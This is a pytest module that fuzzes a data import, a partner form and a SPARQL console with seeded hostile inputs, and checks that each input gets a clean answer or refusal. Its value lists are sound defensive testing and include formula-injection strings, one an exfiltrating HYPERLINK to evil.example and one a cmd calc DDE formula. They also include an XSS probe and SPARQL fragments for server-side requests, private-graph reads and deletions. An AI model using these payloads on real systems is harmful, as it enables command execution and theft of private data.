"""Over ten thousand generated hostile inputs through the import, the partner form and the console.

Every input ends in an answer or a clear refusal (a located problem, a refused file, a console message), never
in an unhandled exception; a refused import or submission leaves the store exactly as it was. Most inputs go
through the real reader and the row rules on real files (what ``validate`` does, without the SHACL pass), and
what those rules accept is turned into store terms, which is where a value the store cannot write would fail;
a sample goes through the whole import or submission into an embedded store. The counts are printed at the end.

The inputs come from a seeded generator, not from a property-testing library: drawing ten thousand structured
inputs through one took twice as long as checking them. Each input has its own seed, which a failure names;
``random.Random(seed)`` draws that input again. ``PASSENDWERK_HOSTILE_SEED`` draws a different ten thousand.
"""

from __future__ import annotations

import csv
import math
import os
import random
import re
import shutil
import string
import struct
import tempfile
import warnings
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import TypeVar

import pytest

from graph.intake.importer import import_path, validation_context
from graph.intake.mapping import records_graphs
from graph.intake.submissions import NewOrganisation, SubmissionForm, form_tables, submissions, submit
from graph.intake.tables import read_input
from graph.intake.template import TABLE_COLUMNS, InputError, Problem
from graph.intake.validate import ValidationContext, validate_tables
from graph.model.records import RecordSet
from graph.model.terms import to_ox
from graph.model.viewer import COMMAND_LINE
from graph.settings import Settings
from graph.store.atlas import Atlas
from graph.views.console import ConsoleError, run_console

from .conftest import EVERYTHING, TINY
from .test_bad_files import BAD_ADDRESSES, GOOD_ADDRESSES

pytestmark = pytest.mark.slow

# What XML 1.0 cannot hold (control characters, U+FFFE/FFFF): no workbook can carry it.
NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
COUNTS: Counter[str] = Counter()
RUNS = {"import_checked": 5_000, "import_written": 30, "form_checked": 4_000, "form_submitted": 30, "console": 1_000}

T = TypeVar("T")
Draw = Callable[[random.Random], T]


def examples(run: str) -> Iterator[tuple[str, random.Random]]:
    """The inputs of one run, each with its own seed."""
    base = os.environ.get("PASSENDWERK_HOSTILE_SEED", "passendwerk")
    for index in range(RUNS[run]):
        seed = f"{base}:{run}:{index}"
        yield seed, random.Random(seed)


@contextmanager
def drawn_from(seed: str, value: object) -> Iterator[None]:
    """A failure names the seed that draws its input again, and the start of the input."""
    try:
        yield
    except BaseException as error:
        if isinstance(error, (KeyboardInterrupt, pytest.skip.Exception)):
            raise
        raise AssertionError(f"input {seed!r} ({error!r}): {value!r:.1500}") from error


# --- drawing ------------------------------------------------------------------------------------------------------


def one_of(*choices: Draw[T]) -> Draw[T]:
    return lambda rng: rng.choice(choices)(rng)


def sampled(values: Sequence[T]) -> Draw[T]:
    chosen = list(values)
    return lambda rng: rng.choice(chosen)


def text(alphabet: Draw[str], max_size: int, min_size: int = 0) -> Draw[str]:
    return lambda rng: "".join(alphabet(rng) for _ in range(rng.randint(min_size, max_size)))


# --- hostile values -----------------------------------------------------------------------------------------------

# Every code point can be drawn, control characters and lone surrogates included; each block is as likely as the
# next, so that ASCII does not crowd out the rest.
BLOCKS = [(0, 0x20), (0x20, 0x7F), (0x7F, 0xA0), (0xA0, 0x800), (0x800, 0xD800), (0xD800, 0xE000)]
BLOCKS += [(0xE000, 0x10000), (0x10000, 0x110000)]


def every_character(rng: random.Random) -> str:
    low, high = rng.choice(BLOCKS)
    return chr(rng.randrange(low, high))


CONTROLS = text(
    one_of(lambda rng: chr(rng.randrange(0x20)), sampled("\x7f\u202e\u2066\u200b\u200f\ufeff\ufffe\ud800")), 10
)
FORMULAS = sampled(
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
        "=cmd|' /C calc'!A0",
        "+31 6 1234 5678",
        "- eerste punt",
        "@SUM(A1:A9)",
        "\t=1",
        "'=1",
        "'s-Hertogenbosch",
    ]
)
CSV_BREAKERS = sampled(['"', '""', '","', "\r", "\n", "\r\n", ",", ";", "\ufeff", '"\n"', 'a"b', "\x00", "\\"])
ADDRESSES = one_of(
    sampled(GOOD_ADDRESSES + BAD_ADDRESSES), lambda rng: "https://a.example/" + text(every_character, 12)(rng)
)


def digits(rng: random.Random, low: int, high: int) -> str:
    return "".join(rng.choice(string.digits) for _ in range(rng.randint(low, high)))


DATES = one_of(
    lambda rng: date.fromordinal(rng.randint(1, date.max.toordinal())).isoformat(),
    lambda rng: digits(rng, 1, 5) + "".join("-" + digits(rng, 1, 3) for _ in range(rng.randint(0, 3))),
    sampled(["2025-02-30", "0000", "2025-13", "1899", "2101-01-01", "2025-1-1", "２０２５", "٢٠٢٥-٠١"]),
)


def any_float(rng: random.Random) -> float:
    """Any double: its 64 bits at random (NaNs and subnormals included), a special one, or an ordinary one."""
    pick = rng.randrange(3)
    if pick == 0:
        return float(struct.unpack("<d", rng.getrandbits(64).to_bytes(8, "little"))[0])
    if pick == 1:
        return rng.choice([0.0, -0.0, math.inf, -math.inf, math.nan, 5e-324, 1.7976931348623157e308, 52.1, 4.9])
    return rng.uniform(-1e6, 1e6)


NUMBERS = one_of(
    lambda rng: repr(any_float(rng)),
    lambda rng: str(rng.randint(-(2**70), 2**70) if rng.random() < 0.5 else rng.randint(-300, 300)),
    lambda rng: str(
        rng.choice([Decimal("NaN"), Decimal("sNaN"), Decimal("-Infinity")])
        if rng.random() < 0.2
        else Decimal(rng.randint(-(10**12), 10**12)).scaleb(rng.randint(-30, 30))
    ),
    sampled(["nan", "inf", "-inf", "1e309", "52,1", "٥٢.١", "1_000", "0x10", "+", ".", " 52.1 ", "4.9e-324"]),
)
HUGE = sampled(["x" * 5_000, "é" * 70_000, "\U0001d54f" * 40_000, "a,b\n" * 10_000, '"' * 9_999])
IDS = sampled(["lib-a", "a-woerden", "x-woerden", "c1", "", "-x", "a" * 101, "a b", "a/b", "ä"])
ATOMS = one_of(
    text(every_character, 30),
    CONTROLS,
    FORMULAS,
    CSV_BREAKERS,
    ADDRESSES,
    DATES,
    NUMBERS,
    IDS,
    sampled(["<script>alert(1)</script>", "yes", "NEE", "werk;;ontmoeting", "GM0632", "3441 bg", "a@b.nl"]),
)
HOSTILE = one_of(ATOMS, HUGE, lambda rng: "".join(ATOMS(rng) for _ in range(rng.randint(2, 4))))


def tiny_rows() -> dict[str, list[dict[str, str]]]:
    rows = {}
    for name in TABLE_COLUMNS:
        with open(TINY / f"{name}.csv", encoding="utf-8", newline="") as handle:
            rows[name] = list(csv.DictReader(handle))
    return rows


TINY_ROWS = tiny_rows()


def input_files(rng: random.Random, mild: bool = False) -> tuple[str, dict[str, list[list[str]]], bytes]:
    """A kind of file ("csv", "xlsx", "raw" or "ttl"), the tiny tables with hostile cells, headers and rows, or
    raw bytes; ``mild``: the three CSV files, whole, with at most one hostile cell in all (so that about half are
    imported)."""
    kind = "csv" if mild else rng.choice(["csv"] * 17 + ["raw", "ttl", "xlsx"])
    if kind == "raw":
        if rng.random() < 0.5:
            return kind, {}, rng.randbytes(rng.randint(0, 300))
        characters = text(one_of(every_character, CSV_BREAKERS), 100)(rng)
        return kind, {}, characters.encode("utf-8", "surrogatepass")
    if kind == "ttl":
        value = HOSTILE(rng).replace("\\", "\\\\").replace('"', '\\"')
        turtle = (
            "@prefix org: <http://www.w3.org/ns/org#> . @prefix schema: <https://schema.org/> .\n"
            "@prefix dct: <http://purl.org/dc/terms/> .\n"
            f'<https://w3id.org/passendwerk/id/organisation/h> a org:Organization ; dct:identifier "{value}" ;\n'
            f'  schema:name "{value}" ; schema:url <{ADDRESSES(rng)}> ;\n'
            "  org:classification <https://w3id.org/passendwerk/id/kind/care> .\n"
        )
        return kind, {}, turtle.encode("utf-8", "surrogatepass")
    tables: dict[str, list[list[str]]] = {}
    for name, columns in TABLE_COLUMNS.items():
        if not mild and rng.randint(0, 9) == 0:
            continue  # the file is missing
        header = list(columns)
        if not mild and rng.randint(0, 5) == 0:
            header = rng.sample(header, len(header))[: rng.randint(0, len(header))]
            header += [one_of(HOSTILE, sampled(["id", "ID ", "name"]))(rng) for _ in range(rng.randint(0, 2))]
        rows = [[row.get(column, "") for column in header] for row in TINY_ROWS[name]]
        rows = rows[: rng.randint(0, len(rows))] if not mild and rng.randint(0, 4) == 0 else rows
        for _ in range(0 if mild else rng.randint(0, 3)):
            if rows and header:
                row, column = rng.randrange(len(rows)), rng.randrange(len(header))
                rows[row][column] = HOSTILE(rng)
        tables[name] = [header, *rows]
    if mild and rng.random() < 0.5:
        grid = tables[rng.choice(sorted(tables))]
        grid[rng.randint(1, len(grid) - 1)][rng.randrange(len(grid[0]))] = HOSTILE(rng)
    return kind, tables, b""


def write_files(folder: Path, kind: str, tables: dict[str, list[list[str]]], raw: bytes) -> Path:
    """The drawn input as real files: a folder of CSV files, a workbook or a Turtle file."""
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    if kind == "raw":
        (folder / "organisations.csv").write_bytes(raw)
        return folder
    if kind == "ttl":
        (folder / "atlas.ttl").write_bytes(raw)
        return folder / "atlas.ttl"
    if kind == "xlsx":
        from openpyxl import Workbook

        workbook = Workbook()
        if tables:  # a workbook needs one sheet
            workbook.remove(workbook.active)
        for name, grid in tables.items():
            sheet = workbook.create_sheet(name)
            for row in grid:
                # XML 1.0 cannot hold these (openpyxl with lxml refuses them), so no workbook can either
                sheet.append([NOT_XML.sub("", cell.encode("utf-8", "replace").decode()) for cell in row])
        workbook.save(folder / "atlas.xlsx")
        return folder / "atlas.xlsx"
    for name, grid in tables.items():
        with open(folder / f"{name}.csv", "w", encoding="utf-8", errors="surrogatepass", newline="") as handle:
            csv.writer(handle).writerows(grid)
    if not tables:
        (folder / "organisations.csv").write_text("")
    return folder


def assert_clear(problems: list[Problem]) -> None:
    for problem in problems:
        assert problem.file and problem.message_nl and problem.message_en, problem
        assert len(problem.render()) < 2_000, problem.render()[:300]  # a hostile value is never echoed in full


def assert_writable(records: RecordSet) -> None:
    """What the row rules accept can be written: every term converts to the store's terms."""
    public, private = records_graphs(records, None)
    for graph in (public, private):
        for triple in graph:
            for term in triple:
                to_ox(term)


# --- fixtures -----------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def atlas(tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> Iterator[Atlas]:
    """An embedded store with the tiny graph (no reference data: points are checked against the country's extent).

    When the module is done, the counts are written to the terminal (also when output is captured).
    """
    atlas = Atlas.open(Settings(store=str(tmp_path_factory.mktemp("scale") / "store"), reference=None))
    assert import_path(atlas, TINY, agent="test").ok
    failed_before = request.session.testsfailed
    yield atlas
    total = sum(COUNTS[name] for name in RUNS)
    if request.session.testsfailed == failed_before:
        lines = [f"hostile inputs: {total:,} in all; 0 unhandled exceptions; 0 partial writes"]
    else:
        lines = [f"hostile inputs: {total:,} in all; FAILED, see above"]
    lines += [f"  {name}: {COUNTS[name]:,} ({outcomes(name)})" for name in RUNS]
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    if reporter is None or capture is None:  # a pytest-xdist worker: the counts reach the summary as a warning
        warnings.warn(" / ".join(lines), UserWarning, stacklevel=1)
        return
    with capture.global_and_fixture_disabled():  # what capsys.disabled() does, for a module's fixture
        for line in ["", *lines]:
            reporter.write_line(line)


def outcomes(run: str) -> str:
    counted = sorted((key.split(":", 1)[1], value) for key, value in COUNTS.items() if key.startswith(run + ":"))
    return ", ".join(f"{outcome} {value:,}" for outcome, value in counted)


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Where the drawn files are written: a folder in memory (tmpfs) when there is one, since creating and
    removing thousands of small files on a busy disk took most of this run's time."""
    memory = Path("/dev/shm")
    if not memory.is_dir():
        yield tmp_path_factory.mktemp("hostile")
        return
    folder = Path(tempfile.mkdtemp(prefix="passendwerk-hostile-", dir=memory))
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture(scope="module")
def context(atlas: Atlas) -> ValidationContext:
    return validation_context(atlas)


# --- the import ---------------------------------------------------------------------------------------------------


def test_hostile_files_are_checked_or_refused_clearly(context: ValidationContext, scratch: Path) -> None:
    for seed, rng in examples("import_checked"):
        drawn = input_files(rng)
        with drawn_from(seed, drawn):
            file_checked_or_refused(context, write_files(scratch / "checked", *drawn))


def file_checked_or_refused(context: ValidationContext, path: Path) -> None:
    COUNTS["import_checked"] += 1
    try:
        tables = read_input(path)
    except InputError as refused:
        assert str(refused) and len(str(refused)) < 2_000
        COUNTS["import_checked:file refused"] += 1
        return
    records, problems = validate_tables(tables, context)
    assert_clear(problems)
    if problems:
        COUNTS["import_checked:rows refused"] += 1
    else:
        assert_writable(records)
        COUNTS["import_checked:accepted"] += 1


def test_hostile_imports_write_all_or_nothing(atlas: Atlas, scratch: Path) -> None:
    for seed, rng in examples("import_written"):
        drawn = input_files(rng, mild=True)
        with drawn_from(seed, drawn):
            imported_whole_or_not_at_all(atlas, write_files(scratch / "written", *drawn))


def imported_whole_or_not_at_all(atlas: Atlas, path: Path) -> None:
    COUNTS["import_written"] += 1
    before = atlas.store.dump(private=EVERYTHING)
    try:
        report = import_path(atlas, path, agent="hostile")
    except InputError:
        COUNTS["import_written:file refused"] += 1
        assert atlas.store.dump(private=EVERYTHING) == before
        return
    if report.ok:
        assert report.written and report.activity.encode() in atlas.store.dump()
        COUNTS["import_written:imported"] += 1
    else:
        assert_clear(report.problems)
        assert not report.written and atlas.store.dump(private=EVERYTHING) == before
        COUNTS["import_written:refused"] += 1


# --- the partner form ---------------------------------------------------------------------------------------------

COORDINATES = one_of(lambda rng: None, any_float, lambda rng: rng.uniform(50.8, 53.5))
BASE_FORM: dict[str, object] = {
    "library_site_id": "a-utrecht",
    "care_site_id": "w-utrecht",
    "activities": ("werk",),
    "status": "active",
    "start_date": "2025-02",
    "participants": "5",
    "description": "Deelnemers draaien de koffiecorner.",
    "link": "https://example.org/koffie",
    "contact_name": "Sanne Zichtbaar",
    "contact_email": "sanne@example.org",
    "contact_phone": "030 123 4567",
    "contact_consent": True,
    "submitter_email": "partner@example.org",
}


def new_organisation(rng: random.Random) -> NewOrganisation:
    """A new library that is valid but for one or two hostile fields."""
    fields: dict[str, object] = {"name": "Bibliotheek Nieuw", "town": "Woerden", "lat": 52.086, "lon": 4.884}
    choices: dict[str, Draw[object]] = {"name": HOSTILE, "town": HOSTILE, "lat": COORDINATES, "lon": COORDINATES}
    choices |= {"address": HOSTILE, "postcode": one_of(HOSTILE, sampled(["3441 BG"])), "website": ADDRESSES}
    for name in rng.sample(sorted(choices), rng.randint(1, 2)):
        fields[name] = choices[name](rng)
    return NewOrganisation(**fields)  # type: ignore[arg-type]


FORM_FIELDS: dict[str, Draw[object]] = {
    "library_site_id": one_of(IDS, HOSTILE),
    "new_library": new_organisation,
    "care_site_id": one_of(IDS, HOSTILE),
    "activities": lambda rng: tuple(
        one_of(sampled(["werk", "ontmoeting"]), HOSTILE)(rng) for _ in range(rng.randint(0, 3))
    ),
    "activity_other": HOSTILE,
    "status": one_of(sampled(["active", "ended", "exploring", ""]), HOSTILE),
    "start_date": DATES,
    "participants": NUMBERS,
    "description": HOSTILE,
    "link": ADDRESSES,
    "contact_name": HOSTILE,
    "contact_role": HOSTILE,
    "contact_email": HOSTILE,
    "contact_phone": HOSTILE,
    "contact_consent": lambda rng: rng.random() < 0.5,
    "submitter_email": HOSTILE,
}


def hostile_form(rng: random.Random) -> SubmissionForm:
    """A form that is valid but for one to three hostile fields, so that each reaches every later check."""
    values = dict(BASE_FORM)
    for name in rng.sample(sorted(FORM_FIELDS), rng.randint(1, 3)):
        values[name] = FORM_FIELDS[name](rng)
    return SubmissionForm(**values)  # type: ignore[arg-type]


def test_hostile_forms_are_checked_or_refused_clearly(context: ValidationContext) -> None:
    for seed, rng in examples("form_checked"):
        form = hostile_form(rng)
        with drawn_from(seed, form):
            COUNTS["form_checked"] += 1
            records, problems = validate_tables(form_tables(form, "PW-HOSTILE1"), context)
            assert_clear(problems)
            if problems:
                COUNTS["form_checked:refused"] += 1
            else:
                assert_writable(records)
                COUNTS["form_checked:accepted"] += 1


def test_hostile_submissions_are_stored_whole_or_not_at_all(atlas: Atlas) -> None:
    for seed, rng in examples("form_submitted"):
        form = hostile_form(rng)
        with drawn_from(seed, form):
            COUNTS["form_submitted"] += 1
            before, public = len(submissions(atlas, viewer=COMMAND_LINE)), atlas.store.dump()
            result = submit(atlas, form)
            assert len(submissions(atlas, viewer=COMMAND_LINE)) == before + (1 if result.ok else 0)
            assert atlas.store.dump() == public  # nothing pending is ever public
            assert_clear(result.problems)
            COUNTS["form_submitted:" + ("stored" if result.ok else "refused")] += 1


# --- the console --------------------------------------------------------------------------------------------------

PRIVATE = "<https://w3id.org/passendwerk/graph/private/contacts>"
FRAGMENTS = sampled(
    [
        "SELECT",
        "ASK",
        "CONSTRUCT",
        "DESCRIBE",
        "*",
        "?s",
        "?o",
        "WHERE",
        "{",
        "}",
        "?s ?p ?o",
        ".",
        f"FROM {PRIVATE}",
        f"FROM NAMED {PRIVATE}",
        f"GRAPH {PRIVATE} {{ ?s ?p ?o }}",
        "SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o }",
        "# it's a test\n",
        "# that's all\n",
        "'",
        '"',
        '"""',
        "\n",
        "LIMIT 3",
        "FILTER(",
        ")",
        "(bif:http_get('http://127.0.0.1:9/') AS ?x)",
        '<http://www.openlinksw.com/schemas/bif#http_get>("http://127.0.0.1:9/")',
        "PREFIX bif: <http://www.openlinksw.com/schemas/bif#>",
        "PREFIX service: <http://a.example/>",
        "?service",
        "pw:SERVICE",
        "INSERT DATA { <a:b> <a:c> <a:d> }",
        "DELETE WHERE { ?s ?p ?o }",
        "LOAD <http://127.0.0.1:9/x>",
        ";",
        "BIND(1 AS ?x)",
        "VALUES ?x { 1 }",
        "schema:name",
        "vcard:fn",
        "(COUNT(*) AS ?n)",
        "GROUP BY ?s",
        "ORDER BY ?s",
        "OPTIONAL { ?s vcard:hasEmail ?o }",
        "UNION",
        'REGEX(?o, "(a+)+$")',
        "\\u0053ELECT",
        "SELECT ?n WHERE { ?o schema:name ?n }",
    ]
)
QUERIES = one_of(
    lambda rng: " ".join(one_of(FRAGMENTS, ATOMS)(rng) for _ in range(rng.randint(0, 20))),
    lambda rng: f"SELECT ?s WHERE {{ ?s ?p ?o FILTER(STR(?o) = {ATOMS(rng)!r}) }} LIMIT 5",
    lambda rng: 'ASK { ?s schema:name "' + ATOMS(rng).replace('"', "") + '" }',
    text(one_of(every_character, sampled(string.punctuation)), 60),
)


def test_hostile_console_questions_get_an_answer_or_a_clear_refusal(atlas: Atlas) -> None:
    for seed, rng in examples("console"):
        query = QUERIES(rng)
        with drawn_from(seed, query):
            COUNTS["console"] += 1
            try:
                result = run_console(atlas.store, query)
            except ConsoleError as refused:
                assert refused.message_nl and refused.message_en
                COUNTS["console:refused"] += 1
                continue
            assert result.form in ("SELECT", "ASK", "CONSTRUCT", "DESCRIBE")
            COUNTS["console:answered"] += 1


def test_over_ten_thousand_hostile_inputs_were_fed() -> None:
    """Runs after the property tests of this module; fails when they were deselected or fell short."""
    total = sum(COUNTS[name] for name in RUNS)
    assert total >= 10_000, COUNTS
